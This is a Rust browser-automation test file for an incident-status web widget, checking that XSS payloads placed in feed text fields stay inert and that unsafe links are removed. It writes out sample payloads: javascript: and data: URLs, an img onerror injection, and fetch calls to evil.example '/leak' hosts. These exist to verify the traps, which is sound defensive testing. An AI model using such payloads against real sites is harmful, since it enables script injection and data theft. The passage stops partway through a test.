//! Hostile feed content in headless Chromium: a feed built from the example
//! with an XSS payload (200 public vectors, our canary vectors, bidi and
//! zero-width strings, texts at their limits) in every text field. Proved:
//! no script runs (alert/confirm/prompt/print/open and the canary global are
//! trapped), no element outside the widget's own markup appears, no `on*`
//! attribute anywhere, no request leaves for another host (every host name is
//! resolved to a trap server whose log must stay empty), every link is
//! http(s)/mailto/tel, and every payload is shown literally as text.
//!
//! A feed with unsafe links is shown with those links taken away (the
//! tolerant reader): no unsafe `href` appears, and the page is told each
//! neutralised field's path.

#[path = "../../tests/fixtures/hostile/generator.rs"]
mod generator;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use e2e::browser::{Browser, Options};
use e2e::server::{Response, Server};
use generator::{base, corpus_card, corpus_index, hostile_texts, hostile_urls, placed, public_corpus, shown, Corpus, FieldKind};
use incident_feed::model::ServiceStatus;
use incident_feed::texts::{paragraphs, Lang};
use serde_json::{json, Value};

const WAIT: Duration = Duration::from_secs(30);

/// Tags the widget itself renders (and the loader's link, slot and container).
const ALLOWED_TAGS: &[&str] = &[
    "link", "slot", "div", "p", "span", "h2", "h3", "h4", "header", "section", "article", "ul", "ol", "li", "button", "time", "a", "svg", "path", "label",
    // `bdi`: the widget isolates feed text inline with its own words.
    "input", "mark", "bdi",
];

struct Setup {
    server: Server,
    /// Every other host name resolves here: any request it logs left for a host it should not.
    trap: Server,
    feed: Arc<Mutex<Vec<u8>>>,
    /// The corpus run's feeds, `/card/<n>.json` the n-th.
    cards: Arc<Mutex<Vec<Vec<u8>>>>,
    browser: Browser,
}

async fn setup() -> Setup {
    let server = Server::start(Some(e2e::dist()));
    let trap = Server::start(None);
    let feed = Arc::new(Mutex::new(Vec::new()));
    let cards: Arc<Mutex<Vec<Vec<u8>>>> = Arc::new(Mutex::new(Vec::new()));
    let fixtures = e2e::root().join("tests/fixtures");
    {
        let feed = feed.clone();
        let cards = cards.clone();
        server.handle(move |request| {
            let query: std::collections::HashMap<String, String> =
                url::Url::parse(&format!("http://x{}", request.path)).ok()?.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
            match request.route() {
                "/feed.json" => Some(Response::json(feed.lock().unwrap().clone())),
                route if route.starts_with("/card/") => {
                    let n: usize = route.strip_prefix("/card/")?.strip_suffix(".json")?.parse().ok()?;
                    Some(Response::json(cards.lock().unwrap().get(n)?.clone()))
                }
                "/corpus.html" => {
                    let pairs: usize = query.get("pairs")?.parse().ok()?;
                    let widgets: String = (0..pairs)
                        .map(|n| {
                            format!(
                                "    <incident-status feed=\"/card/{n}.json\" lang=\"de\"></incident-status>\n    <incident-status feed=\"/card/{n}.json\" lang=\"de\" mode=\"compact\" service=\"svc\"></incident-status>\n"
                            )
                        })
                        .collect();
                    let page = std::fs::read_to_string(fixtures.join("hostile/corpus.html")).ok()?.replace("{{WIDGETS}}", &widgets);
                    Some(Response::new(200, "text/html; charset=utf-8", page))
                }
                "/capture.js" => Some(Response::new(200, "text/javascript", std::fs::read(fixtures.join("capture.js")).ok()?)),
                "/traps.js" => Some(Response::new(200, "text/javascript", std::fs::read(fixtures.join("hostile/traps.js")).ok()?)),
                "/hostile.html" => {
                    let attr = |k: &str, d: &str| {
                        query.get(k).map(String::as_str).unwrap_or(d).replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;")
                    };
                    let page = std::fs::read_to_string(fixtures.join("hostile/page.html"))
                        .ok()?
                        .replace("{{MODE}}", &attr("mode", "full"))
                        .replace("{{LANG}}", &attr("lang", "de"))
                        .replace("{{FALLBACK_LINK}}", &attr("fallback", "https://www.waermewerk-rheinland.example/"));
                    Some(Response::new(200, "text/html; charset=utf-8", page))
                }
                _ => None,
            }
        });
    }
    let options = Options { args: vec![format!("--host-resolver-rules=MAP * 127.0.0.1:{}, EXCLUDE 127.0.0.1", trap.port)], ..Options::default() };
    let browser = Browser::with(options).await;
    Setup { server, trap, feed, cards, browser }
}

impl Setup {
    fn serve(&self, feed: &Value) {
        *self.feed.lock().unwrap() = feed.to_string().into_bytes();
    }

    async fn open(&self, query: &str, ready: &str) {
        self.browser.goto(&self.server.url(&format!("/hostile.html?{query}"))).await;
        self.browser
            .wait_for(
                &format!("(() => {{ const r = document.querySelector('incident-status').shadowRoot; return r && r.querySelector({}); }})()", json!(ready)),
                WAIT,
            )
            .await;
    }

    /// Everything the page and the servers saw that must not have happened.
    async fn inert(&self, what: &str) {
        // Time for onerror/onload/autofocus handlers and delayed loads to fire.
        tokio::time::sleep(Duration::from_millis(700)).await;
        let captured = self.browser.js("return window.__captured", vec![]).await;
        assert_eq!(captured["calls"], json!([]), "{what}: script ran: {}", captured["calls"]);
        assert_eq!(captured["canary"], json!(0), "{what}: the canary was written");
        let dom = self
            .browser
            .in_widget(
                r#"const all = [...root.querySelectorAll('*')];
                   const tags = [...new Set(all.map((e) => e.localName))];
                   const handlers = [...document.querySelectorAll('*'), ...all].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.localName} ${a.name}`));
                   const svgs = [...root.querySelectorAll('svg')].filter((s) => !s.classList.contains('is-icon') || s.querySelector(':not(path)')).map((s) => s.outerHTML.slice(0, 200));
                   const links = [...root.querySelectorAll('link')].map((l) => l.href);
                   const hrefs = [...root.querySelectorAll('[href], [src], [srcdoc], [action], [formaction], [data], [xlink\\:href]')]
                     .filter((e) => !(e.localName === 'a' && /^(https?|mailto|tel):/.test(e.getAttribute('href')) && ['http:', 'https:', 'mailto:', 'tel:'].includes(e.protocol)))
                     .filter((e) => !(e.localName === 'a' && /^#[a-z0-9_-]+$/.test(e.getAttribute('href'))))
                     .filter((e) => !(e.localName === 'link' && e.rel === 'stylesheet'))
                     .map((e) => e.outerHTML.slice(0, 200));
                   const outside = [...document.body.querySelectorAll('*')].map((e) => e.localName).filter((t) => !['main', 'incident-status', 'p'].includes(t));
                   return { tags, handlers, svgs, links, hrefs, outside, anchors: root.querySelectorAll('a[href]').length };"#,
            )
            .await;
        let tags: Vec<&str> = dom["tags"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        let foreign: Vec<&&str> = tags.iter().filter(|t| !ALLOWED_TAGS.contains(t)).collect();
        assert!(foreign.is_empty(), "{what}: elements outside the widget's markup in the shadow root: {foreign:?}");
        assert_eq!(dom["handlers"], json!([]), "{what}: on* attributes");
        assert_eq!(dom["svgs"], json!([]), "{what}: an svg that is not one of the widget's state icons");
        assert_eq!(dom["links"].as_array().unwrap().len(), 1, "{what}: link elements {}", dom["links"]);
        assert!(dom["links"][0].as_str().unwrap().ends_with("/incident-status.css"), "{what}: {}", dom["links"]);
        assert_eq!(dom["hrefs"], json!([]), "{what}: URL attributes that are not http(s)/mailto/tel links or in-widget anchors");
        assert_eq!(dom["outside"], json!([]), "{what}: elements appeared in the host page");
        self.no_request_left(what);
        // The bundle's files include the FAQ search the widget loads after its first paint.
        let allowed = [
            "/hostile.html",
            "/capture.js",
            "/traps.js",
            "/incident-status.js",
            "/incident-status_bg.wasm",
            "/incident-status.css",
            "/incident-status-search.wasm",
            "/feed.json",
        ];
        for r in self.server.requests() {
            assert!(allowed.contains(&r.route()), "{what}: unexpected request {} {}", r.method, r.path);
        }
        let origin = self.server.origin();
        let resources = self.browser.js("return performance.getEntriesByType('resource').map((e) => e.name)", vec![]).await;
        for name in resources.as_array().unwrap() {
            let name = name.as_str().unwrap();
            assert!(name.starts_with(&origin), "{what}: resource from elsewhere: {name}");
        }
    }
}

impl Setup {
    /// No request reached the trap server, which every host name but the
    /// test server's resolves to.
    fn no_request_left(&self, what: &str) {
        let trapped = self.trapped();
        assert!(trapped.is_empty(), "{what}: requests to other hosts: {trapped:?}");
    }

    /// The requests the trap server saw, but Chromium's own background
    /// requests (network time, sign-in, autofill, optimisation hints; seen
    /// over TLS by their SNI names), which go to Google hosts whatever the
    /// page does: they are not the page's.
    fn trapped(&self) -> Vec<String> {
        let chromium_own = |host: &str| {
            let host = host.split(':').next().unwrap_or("");
            ["google.com", "googleapis.com", "gvt1.com", "gstatic.com", "google"].iter().any(|d| host == *d || host.ends_with(&format!(".{d}")))
        };
        self.trap
            .requests()
            .into_iter()
            .filter(|r| !chromium_own(r.header("host").unwrap_or("")))
            .map(|r| format!("{} {} {}", r.method, r.header("host").unwrap_or(""), r.path))
            .collect()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn payloads_in_every_text_field_stay_text() {
    let corpus = Corpus::load(&e2e::root());
    let (feed, placed) = hostile_texts(&base(&e2e::root()), &corpus.payloads);
    assert!(feed["faq"].as_array().unwrap().len() > 16, "no payload entries were added");
    let s = setup().await;
    s.serve(&feed);
    let mut covered = std::collections::HashSet::new();
    for lang in ["de", "en"] {
        s.open(&format!("lang={lang}"), ".is-header").await;
        // Open everything, and search for payloads (matches get marked):
        // first show the questions after the first ones, then (rendered
        // by the next call) open every question.
        s.browser
            .in_widget(
                "root.querySelector('.is-expand-all').click(); const more = root.querySelector('.is-show-more-questions'); if (more) more.click(); return true",
            )
            .await;
        s.browser.in_widget("root.querySelectorAll('.is-faq-entry .is-toggle').forEach((b) => b.click()); return true").await;
        s.inert(&format!("full {lang}")).await;
        let shown: Vec<&str> = placed.iter().filter(|(slot, _)| slot.shown_in(lang)).map(|(_, t)| t.as_str()).collect();
        assert!(shown.len() > 60, "{}", shown.len());
        covered.extend(shown.iter().map(|t| t.to_string()));
        let missing = s
            .browser
            .in_widget(&format!("const text = root.textContent; return {}.filter((t) => !text.includes(t));", serde_json::to_string(&shown).unwrap()))
            .await;
        assert_eq!(missing, json!([]), "{lang}: payloads not shown literally");
        for query in ["<script>", "onerror=alert(1)", "javascript:", "\u{202e}", "__canary"] {
            s.browser
                .in_widget(&format!(
                    "const input = root.querySelector('input[type=search]'); input.value = {}; input.dispatchEvent(new Event('input', {{ bubbles: true }})); return true",
                    json!(query)
                ))
                .await;
            // The search loads after the first paint: wait for its answer (a count).
            s.browser
                .wait_for(
                    "(() => { const c = document.querySelector('incident-status').shadowRoot.querySelector('.is-search__count'); return c && /^[0-9]/.test(c.textContent); })()",
                    Duration::from_secs(25),
                )
                .await;
            tokio::time::sleep(Duration::from_millis(150)).await;
            s.inert(&format!("full {lang}, search {query:?}")).await;
        }
        s.open(&format!("lang={lang}&mode=compact"), ".is-compact").await;
        s.browser.in_widget("root.querySelector('.is-more').click(); return true").await;
        s.inert(&format!("compact {lang}")).await;
    }
    // Between the two languages, every payload was shown and found literally.
    let unseen: Vec<&String> = corpus.payloads.iter().filter(|p| !covered.contains(*p)).collect();
    assert!(unseen.is_empty(), "payloads never shown: {unseen:#?}");
    s.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_feed_with_unsafe_links_is_shown_without_them_and_no_unsafe_href_appears() {
    let corpus = Corpus::load(&e2e::root());
    let s = setup().await;
    for url in corpus.urls.iter().step_by(3) {
        let (feed, slots) = hostile_urls(&base(&e2e::root()), url);
        s.serve(&feed);
        s.open("lang=de", ".is-fallback__message, .is-header").await;
        // The tolerant reader shows the feed and takes only the links away.
        let state = s
            .browser
            .in_widget(
                "return { header: !!root.querySelector('.is-header'), notice: !!root.querySelector('.is-notice'), \
                 hrefs: [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')), \
                 tel: !!root.querySelector('a[href=\"tel:+498005501234\"]') }",
            )
            .await;
        assert_eq!(state["header"], json!(true), "{url:?}: the feed was not shown: {state}");
        assert_eq!(state["notice"], json!(false), "{url:?}: a notice for a neutralised link: {state}");
        assert_eq!(state["tel"], json!(true), "{url:?}: the hotline is missing");
        let hrefs: Vec<&str> = state["hrefs"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        assert!(!hrefs.contains(&url.as_str()), "{url:?} became a link: {hrefs:?}");
        // And the page is told which fields were neutralised.
        let event = s.browser.wait_for("window.__captured.events.find((e) => e.type === 'incident-status:neutralised')", WAIT).await;
        let named: Vec<&str> = event["detail"]["items"].as_array().unwrap().iter().filter_map(|i| i["path"].as_str()).collect();
        for slot in &slots {
            assert!(named.contains(&slot.as_str()), "{url:?}: {slot} not named in {named:?}");
        }
        s.inert(&format!("feed with {url:?}")).await;
    }
    // The embedder's fallback link is checked the same way, with no last
    // good copy: the feeds above were shown, so one was kept.
    s.browser.js("localStorage.clear(); return 1", vec![]).await;
    for url in [
        "javascript:window.__canary=1",
        " JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/",
        "https://bank.example@evil.example/",
    ] {
        s.serve(&json!({ "not": "a feed" }));
        s.open(&format!("fallback={}", url::form_urlencoded::byte_serialize(url.as_bytes()).collect::<String>()), ".is-fallback__phone").await;
        let links = s.browser.in_widget("return [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))").await;
        assert_eq!(links, json!(["tel:+498005501234"]), "fallback-link {url:?}");
        s.inert(&format!("fallback-link {url:?}")).await;
    }
    s.browser.close().await;
}

/// The traps themselves: a payload that is parsed as HTML (as the widget
/// never does) is caught by them, so their silence above means something.
#[tokio::test(flavor = "multi_thread")]
async fn the_traps_catch_a_payload_that_runs() {
    let s = setup().await;
    s.serve(&base(&e2e::root()));
    s.open("lang=de", ".is-header").await;
    s.browser
        .in_widget("root.querySelector('.is-headline').insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__canary=1; alert(2)\">'); return true")
        .await;
    s.browser.wait_for("window.__captured.canary > 0", WAIT).await;
    let calls = s.browser.js("return window.__captured.calls", vec![]).await;
    assert_eq!(calls, json!(["__canary = 1", "alert(2)"]));
    // Requests that leave for another host reach the trap, over HTTP and
    // HTTPS alike (the latter is seen by the name in its TLS handshake).
    s.browser
        .js("fetch('http://plain.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); fetch('https://tls.evil.example/leak', { mode: 'no-cors' }).catch(() => {}); return true", vec![])
        .await;
    let deadline = std::time::Instant::now() + WAIT;
    let hosts = loop {
        let hosts: std::collections::BTreeSet<String> = s.trap.requests().iter().filter_map(|r| Some(format!("{} {}", r.method, r.header("host")?))).collect();
        if hosts.iter().any(|h| h.starts_with("TLS tls.evil.example")) && hosts.iter().any(|h| h.starts_with("GET plain.evil.example"))
            || std::time::Instant::now() > deadline
        {
            break hosts;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert!(hosts.contains("TLS tls.evil.example"), "the trap did not see the HTTPS request: {hosts:?}");
    assert!(hosts.contains("GET plain.evil.example"), "the trap did not see the HTTP request: {hosts:?}");
    s.browser.close().await;
}

/// Widget pairs on the corpus page: each round shows this many corpus cards
/// at once, each in a full widget and in a compact one (for the card's
/// service), both on the card's feed (one source, one request).
const CORPUS_PAIRS: usize = 110;

/// The widget cuts a text over its limit (the tolerant reader) rather than
/// refusing the feed, so every payload goes in whole, and
/// `generator::shown` says what must appear. (`false` would place an
/// over-limit payload as its first `limit` characters, a card valid for the
/// CLI.)
const WIDGET_CUTS_OVER_LIMIT_TEXTS: bool = true;

/// Text expected in the elements a selector finds, in document order.
type Expected = Vec<(&'static str, Vec<String>)>;

/// One corpus card: the feed served and what each widget must show.
struct CardCheck {
    json: Vec<u8>,
    /// In the full widget, the search field empty.
    full: Expected,
    /// In the compact widget.
    compact: Expected,
    /// The card's keyword, typed into the full widget's search field.
    query: String,
    /// In the full widget, with `query` typed.
    search: Expected,
    /// Whether the search finds the card's FAQ entry by `query`.
    finds_entry: bool,
}

/// The paragraphs of a text, by the documented rule (`texts::paragraphs`).
fn paragraphs_of(text: &str) -> Vec<String> {
    paragraphs(text).into_iter().map(|r| text[r].to_owned()).collect()
}

/// The marked parts of `text`: each range that lies within one paragraph,
/// as the widget marks them (`Paragraphs`).
fn marked_in_paragraphs(text: &str, ranges: &[std::ops::Range<usize>]) -> Vec<String> {
    paragraphs(text).into_iter().flat_map(|p| ranges.iter().filter(move |r| r.start >= p.start && r.end <= p.end).map(|r| text[r.clone()].to_owned())).collect()
}

/// Card `card` of the run: field kind k carries payload
/// `corpus_index(card, k)`. The expectations come from the documented
/// rules (the limits and their cut, the paragraph rule, the widget's words
/// in `words/de.txt`) and, for the search, from the search crate on the
/// same feed; never from the widget's output.
fn corpus_card_check(template: &Value, corpus: &[String], card: usize, updated_at: &str) -> CardCheck {
    let kinds = FieldKind::ALL;
    let texts: Vec<String> =
        kinds.iter().enumerate().map(|(k, kind)| placed(&corpus[corpus_index(card, k, corpus.len())], kind.limit(), WIDGET_CUTS_OVER_LIMIT_TEXTS)).collect();
    let seen: Vec<String> = kinds.iter().zip(&texts).map(|(kind, t)| shown(t, kind.limit())).collect();
    let s = |kind: FieldKind| seen[kinds.iter().position(|k| *k == kind).unwrap()].clone();
    let served = corpus_card(template, &texts, updated_at);
    // What the reader must get: the card with every text as shown, which
    // the core accepts as the CLI would (and which is the served card while
    // nothing is over its limit).
    let kept = incident_feed::parse_feed(&corpus_card(template, &seen, updated_at).to_string()).unwrap_or_else(|p| panic!("card {card} is invalid: {p}"));
    let t = Lang::De.texts();
    let hours = format!("{}: {}", t.hours, s(FieldKind::ContactHours));
    let full = vec![
        (".is-org", vec![s(FieldKind::OrganisationName)]),
        (".is-headline", vec![s(FieldKind::Headline)]),
        (".is-call__label", vec![s(FieldKind::ContactLabel)]),
        (".is-call__hours", vec![s(FieldKind::ContactHours)]),
        (".is-advice__item", vec![s(FieldKind::Advice)]),
        (".is-service__name", vec![s(FieldKind::ServiceName)]),
        (".is-service__note", vec![s(FieldKind::ServiceNote)]),
        (".is-incident__title", vec![s(FieldKind::IncidentTitle)]),
        (".is-update__title", vec![s(FieldKind::UpdateTitle)]),
        (".is-update .is-para", paragraphs_of(&s(FieldKind::UpdateBody))),
        (".is-contacts-section .is-contact__label", vec![s(FieldKind::ContactLabel)]),
        (".is-contacts-section .is-contact__hours", vec![hours.clone()]),
        (".is-contacts-section .is-contact__note", vec![s(FieldKind::ContactNote)]),
        (".is-faq-entry__question", vec![s(FieldKind::FaqQuestion)]),
        (".is-faq-entry .is-para", paragraphs_of(&s(FieldKind::FaqAnswer))),
        (".is-channel__link, .is-channel__name", vec![s(FieldKind::ChannelLabel)]),
    ];
    let compact = vec![
        (".is-compact__lead-words", vec![format!("{}: {}", s(FieldKind::ServiceName), t.service_status(ServiceStatus::Degraded))]),
        (".is-compact__title", vec![s(FieldKind::ServiceNote)]),
        (".is-compact__headline", vec![s(FieldKind::Headline)]),
        (".is-compact__call-label", vec![format!("{}: ", s(FieldKind::ContactLabel))]),
        (".is-compact__update-title", vec![s(FieldKind::UpdateTitle)]),
        (".is-compact__panel .is-para", paragraphs_of(&s(FieldKind::UpdateBody))),
        (".is-compact__panel .is-contact__label", vec![s(FieldKind::ContactLabel)]),
        (".is-compact__panel .is-contact__hours", vec![hours]),
        (".is-compact__panel .is-contact__note", vec![s(FieldKind::ContactNote)]),
    ];
    // Keywords are not shown but searched: typed into the field, the card's
    // keyword finds what the search crate finds in the same feed, shown
    // with the same marks.
    let query = s(FieldKind::FaqKeyword);
    let index = incident_search::SearchIndex::new(&kept);
    let hits = index.search(&query, "de", kept.faq.len().max(1));
    // The widget asks for at most 3 contacts (`CONTACT_HITS`); a card has one.
    let contacts = index.search_contacts(&query, "de", kept.contacts.len());
    let (question, answer) = (s(FieldKind::FaqQuestion), s(FieldKind::FaqAnswer));
    let nothing = hits.is_empty() && contacts.is_empty();
    let search = vec![
        (".is-search__count", vec![t.hits(hits.len() + contacts.len())]),
        (".is-no-match__text", if hits.is_empty() { vec![t.no_match(&query)] } else { vec![] }),
        (".is-no-match .is-contact__label", if nothing { vec![s(FieldKind::ContactLabel)] } else { vec![] }),
        (".is-search-contacts .is-contact__label", contacts.iter().map(|_| s(FieldKind::ContactLabel)).collect()),
        (".is-faq__list--results .is-faq-entry__question", hits.iter().map(|_| question.clone()).collect()),
        (".is-faq__list--results .is-faq-entry__question mark", hits.iter().flat_map(|h| h.question.iter().map(|r| question[r.clone()].to_owned())).collect()),
        (".is-faq__list--results .is-para", hits.iter().flat_map(|_| paragraphs_of(&answer)).collect()),
        (".is-faq__list--results .is-para mark", hits.iter().flat_map(|h| marked_in_paragraphs(&answer, &h.answer)).collect()),
    ];
    CardCheck { json: served.to_string().into_bytes(), full, compact, finds_entry: !hits.is_empty(), query, search }
}

/// The corpus page's feed time in round `round`: one second later each
/// round, so that a widget shows when it has the round's card.
fn round_time(round: usize) -> String {
    let seconds = 16 * 3600 + 30 * 60 + round;
    format!("2026-11-10T{:02}:{:02}:{:02}+01:00", seconds / 3600, seconds / 60 % 60, seconds % 60)
}

/// Compares the texts, scans every shadow root and the page for what the
/// widget never makes, reads the traps, and takes the resources loaded so
/// far (then forgets them: the browser keeps only 250). `arguments`:
/// `[[host index, [[selector, [text]]]]]`, the allowed tags, the test
/// server's origin.
const CORPUS_CHECK: &str = r#"
const [checks, allowed, origin] = arguments;
const hosts = [...document.querySelectorAll('incident-status')];
const wrong = [];
let compared = 0;
for (const [host, fields] of checks) {
  const root = hosts[host].shadowRoot;
  for (const [selector, want] of fields) {
    const got = [...root.querySelectorAll(selector)].map((e) => e.textContent);
    compared += want.length;
    if (got.length !== want.length || got.some((text, i) => text !== want[i])) wrong.push({ host, selector, got, want });
  }
}
const foreign = new Set(), handlers = [], svgs = [], links = [], hrefs = [];
for (const host of hosts) {
  const root = host.shadowRoot;
  const all = [...root.querySelectorAll('*')];
  for (const e of all) {
    if (!allowed.includes(e.localName)) foreign.add(e.localName);
  }
  svgs.push(...[...root.querySelectorAll('svg')].filter((s) => !s.classList.contains('is-icon') || s.querySelector(':not(path)')).map((s) => s.outerHTML.slice(0, 200)));
  const sheets = [...root.querySelectorAll('link')].map((l) => l.href);
  if (sheets.length !== 1 || !sheets[0].endsWith('/incident-status.css')) links.push(sheets);
  hrefs.push(...[...root.querySelectorAll('[href], [src], [srcdoc], [action], [formaction], [data], [xlink\\:href]')]
    .filter((e) => !(e.localName === 'a' && /^(https?|mailto|tel):/.test(e.getAttribute('href')) && ['http:', 'https:', 'mailto:', 'tel:'].includes(e.protocol)))
    .filter((e) => !(e.localName === 'a' && /^#[a-z0-9_-]+$/.test(e.getAttribute('href'))))
    .filter((e) => !(e.localName === 'link' && e.rel === 'stylesheet'))
    .map((e) => e.outerHTML.slice(0, 200)));
  handlers.push(...all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.localName} ${a.name}`)));
}
handlers.push(...[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.localName} ${a.name}`)));
const outside = [...document.body.querySelectorAll('*')].map((e) => e.localName).filter((t) => !['main', 'incident-status'].includes(t));
const resources = performance.getEntriesByType('resource').map((e) => e.name).filter((name) => !name.startsWith(origin + '/'));
performance.clearResourceTimings();
const c = window.__captured;
return { wrong: wrong.slice(0, 3), wrongCount: wrong.length, compared, foreign: [...foreign], handlers, svgs, links, hrefs, outside, resources,
  calls: c.calls, canary: c.canary, observed: window.__corpusObserved };
"#;

/// Records every element that ever appears in a widget's shadow root or in
/// the page whose tag the widget does not make, and every `on*` attribute
/// set anywhere, however briefly it stays. `arguments`: the allowed tags.
const CORPUS_OBSERVE: &str = r#"
const [allowed] = arguments;
const observed = window.__corpusObserved = { tags: [], handlers: [] };
const page = ['html', 'head', 'body', 'main', 'incident-status', 'meta', 'title', 'link', 'script'];
const note = (e, ok) => {
  if (!ok.includes(e.localName)) observed.tags.push(e.localName);
  for (const a of e.attributes) if (/^on/i.test(a.name)) observed.handlers.push(`${e.localName} ${a.name}`);
};
const watch = (target, ok) => new MutationObserver((records) => {
  for (const r of records) {
    if (r.type === 'attributes') {
      if (/^on/i.test(r.attributeName)) observed.handlers.push(`${r.target.localName} ${r.attributeName}`);
      continue;
    }
    for (const n of r.addedNodes) {
      if (n.nodeType !== 1) continue;
      note(n, ok);
      n.querySelectorAll('*').forEach((e) => note(e, ok));
    }
  }
}).observe(target, { childList: true, subtree: true, attributes: true });
for (const host of document.querySelectorAll('incident-status')) watch(host.shadowRoot, allowed);
watch(document.documentElement, page);
return true;
"#;

/// Empties the full widgets' search fields and has every pair's source
/// fetch its feed again (`refresh()`; the compact widget shares it).
const CORPUS_REFRESH: &str = r#"
const hosts = document.querySelectorAll('incident-status');
window.__captured.events = [];
for (let i = 0; i < hosts.length; i += 2) {
  const input = hosts[i].shadowRoot.querySelector('.is-search__input');
  if (input && input.value !== '') {
    input.value = '';
    input.dispatchEvent(new Event('input', { bubbles: true }));
  }
  hosts[i].refresh();
}
return true;
"#;

/// Waits (polling, up to 25 s) until every full widget shows the feed of
/// time `arguments[0]`, or a widget reports an error; then opens every
/// FAQ entry still closed (their answers are built when opened) and
/// answers after the page has rendered that.
const CORPUS_WAIT_SHOWN: &str = r#"
const [want, done] = arguments;
const started = performance.now();
const full = [...document.querySelectorAll('incident-status')].filter((_, i) => i % 2 === 0);
(function tick() {
  const errors = window.__captured.events.filter((e) => e.type === 'incident-status:error');
  if (errors.length) return done({ errors });
  const behind = full.filter((h) => {
    const time = h.shadowRoot && h.shadowRoot.querySelector('.is-header time');
    return !time || time.getAttribute('datetime') !== want;
  }).length;
  if (behind === 0) {
    let opened = 0;
    for (const h of full) for (const b of h.shadowRoot.querySelectorAll('.is-faq-entry .is-toggle[aria-expanded="false"]')) { b.click(); opened += 1; }
    return setTimeout(() => done({ shown: true, opened }), 0);
  }
  if (performance.now() - started > 25000) return done({ behind });
  setTimeout(tick, 2);
})();
"#;

/// Types `arguments[0][i]` into the i-th full widget's search field and
/// waits (polling, up to 25 s; the search loads once per page, after the
/// first paint) until every count shows a number.
const CORPUS_TYPE: &str = r#"
const [queries, done] = arguments;
const full = [...document.querySelectorAll('incident-status')].filter((_, i) => i % 2 === 0);
full.forEach((h, i) => {
  const input = h.shadowRoot.querySelector('.is-search__input');
  input.value = queries[i];
  input.dispatchEvent(new Event('input', { bubbles: true }));
});
const started = performance.now();
(function tick() {
  const waiting = full.filter((h) => { const c = h.shadowRoot.querySelector('.is-search__count'); return !c || !/^[0-9]/.test(c.textContent); }).length;
  if (waiting === 0) return done({ ready: true });
  if (performance.now() - started > 25000) return done({ waiting });
  setTimeout(tick, 2);
})();
"#;

/// What the checks found over the run.
#[derive(Default)]
struct Tally {
    /// Element texts compared.
    compared: usize,
    /// Dialogs, `print`/`open` calls and canary writes the traps caught.
    executed: usize,
    /// Resources from other origins, then requests the trap server saw.
    foreign_requests: usize,
    /// Elements the widget does not make, seen in a round's scan.
    new_elements: usize,
    /// Such elements the observer saw come (and perhaps go) since the page loaded.
    observed: usize,
}

impl Setup {
    /// Runs [`CORPUS_CHECK`] and fails on anything it found.
    async fn check_corpus(&self, what: &str, checks: Value, tally: &mut Tally) {
        let r = self.browser.js(CORPUS_CHECK, vec![checks, json!(ALLOWED_TAGS), json!(self.server.origin())]).await;
        let count = |v: &Value| v.as_array().map_or(0, Vec::len);
        tally.compared += r["compared"].as_u64().unwrap() as usize;
        // The traps and the observer keep everything since the page loaded; the rest is per scan.
        tally.executed = count(&r["calls"]) + r["canary"].as_u64().unwrap_or(1) as usize;
        tally.foreign_requests += count(&r["resources"]);
        tally.new_elements += count(&r["foreign"]) + count(&r["outside"]);
        tally.observed = count(&r["observed"]["tags"]);
        assert_eq!(r["wrongCount"], json!(0), "{what}: texts not shown as the feed says: {:#}", r["wrong"]);
        assert_eq!(r["calls"], json!([]), "{what}: script ran");
        assert_eq!(r["canary"], json!(0), "{what}: the canary was written");
        assert_eq!(r["foreign"], json!([]), "{what}: elements outside the widget's markup in a shadow root");
        assert_eq!(r["observed"], json!({ "tags": [], "handlers": [] }), "{what}: elements or on* attributes appeared (and perhaps went)");
        assert_eq!(r["handlers"], json!([]), "{what}: on* attributes");
        assert_eq!(r["svgs"], json!([]), "{what}: an svg that is not one of the widget's state icons");
        assert_eq!(r["links"], json!([]), "{what}: link elements other than the widget's stylesheet");
        assert_eq!(r["hrefs"], json!([]), "{what}: URL attributes that are not http(s)/mailto/tel links or in-widget anchors");
        assert_eq!(r["outside"], json!([]), "{what}: elements appeared in the host page");
        assert_eq!(r["resources"], json!([]), "{what}: resources from elsewhere");
    }
}

/// The whole public corpus (6,590 payloads, `xss-corpus.txt`) through the
/// widget, every payload in every kind of text field: rounds of corpus
/// cards (one feed each, a payload in each of its 15 text fields), each
/// card in a full and a compact widget on one page, fed again by
/// `refresh()` every round. In each round: every text shows exactly as the
/// documented rules say, the keyword finds what the search crate finds, no
/// element the widget does not make appears, no on* attribute, no script
/// runs (dialogs and the canary are trapped), and nothing is requested from
/// another host.
#[tokio::test(flavor = "multi_thread")]
async fn the_whole_public_corpus_stays_text_in_every_field() {
    let started = std::time::Instant::now();
    let pairs = CORPUS_PAIRS;
    let corpus = public_corpus(&e2e::root());
    assert_eq!(corpus.len(), 6_590, "xss-corpus.txt");
    let n = corpus.len();
    // Over their limits, and so placed cut until the widget cuts them.
    for kind in [FieldKind::OrganisationName, FieldKind::ServiceNote, FieldKind::UpdateBody, FieldKind::FaqKeyword] {
        let over = corpus.iter().filter(|p| p.chars().count() > kind.limit()).count();
        let kinds = FieldKind::ALL.iter().filter(|k| k.limit() == kind.limit()).count();
        println!("xss corpus: {over} payloads over {} characters ({kinds} kinds of field)", kind.limit());
    }
    let filler: Vec<String> = FieldKind::ALL.iter().map(|k| format!("{k:?}")).collect();
    let template = corpus_card(&base(&e2e::root()), &filler, &round_time(0));
    let rounds = n.div_ceil(pairs);
    let s = setup().await;
    let mut tally = Tally::default();
    let (mut placements, mut found_by_keyword, mut feeds) = (0, 0, 0);
    let mut covered: std::collections::HashSet<(usize, usize)> = std::collections::HashSet::new();
    // The cards are built natively on a thread of their own, a round or two
    // ahead of the browser, so that both cores work.
